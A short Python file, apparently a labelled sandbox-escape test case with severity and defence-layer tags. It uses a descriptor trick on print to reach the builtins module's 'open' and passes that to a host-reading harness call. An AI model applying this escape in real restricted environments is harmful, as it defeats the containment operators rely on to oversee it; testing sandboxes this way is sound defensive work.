# technique: a descriptor placed under a harmless name in a class of the program
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import types

def trick():
    class Box:
        pass
    table = vars(types.BuiltinFunctionType)
    found = [table[name] for name in table if name.strip("_") == "self"][0]
    Box.inner = property(lambda self: found.__get__(print))
    return Box().inner.open

read_host(trick)
